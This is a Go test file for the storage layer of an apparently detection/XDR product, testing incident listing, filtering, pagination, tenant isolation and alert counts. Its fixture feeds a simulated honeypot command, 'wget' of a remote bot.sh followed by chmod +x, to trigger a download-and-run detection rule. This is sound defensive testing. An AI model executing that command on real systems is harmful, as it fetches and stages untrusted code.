package storage_test

import (
	"context"
	"fmt"
	"slices"
	"testing"
	"time"

	"github.com/minixdr/xdr/appliance"
	"github.com/minixdr/xdr/appliance/command"
	"github.com/minixdr/xdr/appliance/detect"
	"github.com/minixdr/xdr/storage"
	"github.com/minixdr/xdr/storage/storetest"
)

type storeAndLog struct {
	s *storage.Store
	l *storetest.Log
}

// triageFixture raises one high incident per attacker IP (the built-in
// download-and-run rule on a honeypot command) for n IPs, an hour apart.
func triageFixture(t *testing.T, n int) (*storeAndLog, []string) {
	t.Helper()
	s, l := newDetectLog(t, "acme", "other")
	var ids []string
	for i := range n {
		ip := fmt.Sprintf("10.9.0.%d", i+1)
		at := detectT0.Add(time.Duration(i) * time.Hour)
		l.MustApply(&command.IngestBatch{Tenant: "acme", Source: "cowrie", BatchID: "b" + ip, Events: []appliance.Event{
			cowrieCommand("acme", ip, "wget http://10.200.0.10/bot.sh; chmod +x bot.sh", at, uint64(i)),
		}})
	}
	incs, total, err := s.IncidentList(context.Background(), appliance.IncidentFilter{Tenant: "acme"})
	if err != nil || total != n || len(incs) != n {
		t.Fatalf("fixture: %d incidents (total %d), want %d: %v", len(incs), total, n, err)
	}
	for _, inc := range incs {
		ids = append(ids, inc.ID)
	}
	return &storeAndLog{s, l}, ids
}

func TestIncidentList(t *testing.T) {
	sl, ids := triageFixture(t, 5)
	ctx := context.Background()
	str := func(s string) *string { return &s }
	// Triage: the second newest is resolved and assigned to bob.
	sl.l.MustApply(&command.UpdateIncident{Tenant: "acme", ID: ids[1], Status: str(detect.StatusResolved), Assignee: str("bob"),
		Author: "admin", Time: detectT0.Add(-time.Hour).UnixNano()})
	list := func(f appliance.IncidentFilter) ([]string, int) {
		t.Helper()
		f.Tenant = "acme"
		incs, total, err := sl.s.IncidentList(ctx, f)
		if err != nil {
			t.Fatalf("IncidentList(%+v): %v", f, err)
		}
		var got []string
		for _, inc := range incs {
			got = append(got, inc.ID)
		}
		return got, total
	}
	for _, tc := range []struct {
		name  string
		f     appliance.IncidentFilter
		want  []string
		total int
	}{
		{"all, newest first", appliance.IncidentFilter{}, ids, 5},
		{"open", appliance.IncidentFilter{Status: "open"}, []string{ids[0], ids[2], ids[3], ids[4]}, 4},
		{"resolved", appliance.IncidentFilter{Status: "resolved"}, []string{ids[1]}, 1},
		{"assigned to bob", appliance.IncidentFilter{Assignee: "bob"}, []string{ids[1]}, 1},
		{"unassigned", appliance.IncidentFilter{Assignee: "-"}, []string{ids[0], ids[2], ids[3], ids[4]}, 4},
		{"high", appliance.IncidentFilter{Severity: "high"}, ids, 5},
		{"low", appliance.IncidentFilter{Severity: "low"}, nil, 0},
		{"page 2 of 2-long pages", appliance.IncidentFilter{Limit: 2, Offset: 2}, ids[2:4], 5},
		{"oldest first by created is last", appliance.IncidentFilter{Sort: "created", Limit: 1, Offset: 4}, ids[4:], 5},
	} {
		t.Run(tc.name, func(t *testing.T) {
			got, total := list(tc.f)
			if !slices.Equal(got, tc.want) || total != tc.total {
				t.Errorf("got %v (total %d), want %v (total %d)", got, total, tc.want, tc.total)
			}
		})
	}
	for _, f := range []appliance.IncidentFilter{{Tenant: "acme", Status: "closed"}, {Tenant: "acme", Severity: "urgent"}, {Tenant: "acme", Sort: "name"}} {
		if _, _, err := sl.s.IncidentList(ctx, f); appliance.ErrorCode(err) != appliance.EINVALID {
			t.Errorf("IncidentList(%+v): %v, want EINVALID", f, err)
		}
	}
	if _, total, _ := sl.s.IncidentList(ctx, appliance.IncidentFilter{Tenant: "other"}); total != 0 {
		t.Errorf("tenant other sees %d incidents", total)
	}

	counts, err := sl.s.OpenIncidentCounts(ctx, "acme")
	if err != nil || counts["high"] != 4 || len(counts) != 1 {
		t.Errorf("OpenIncidentCounts = %v, %v; want high: 4", counts, err)
	}
	h, err := sl.s.AlertHistogram(ctx, "acme", detectT0, detectT0.Add(5*time.Hour), 5)
	if err != nil || !slices.Equal(h["high"], []int{1, 1, 1, 1, 1}) {
		t.Errorf("AlertHistogram = %v, %v", h, err)
	}
	tc, err := sl.s.AlertTechniqueCounts(ctx, "acme", detectT0, detectT0.Add(2*time.Hour))
	if err != nil || tc["T1105"] != 2 {
		t.Errorf("AlertTechniqueCounts = %v, %v; want T1105: 2 (two alerts in the first two hours)", tc, err)
	}
}
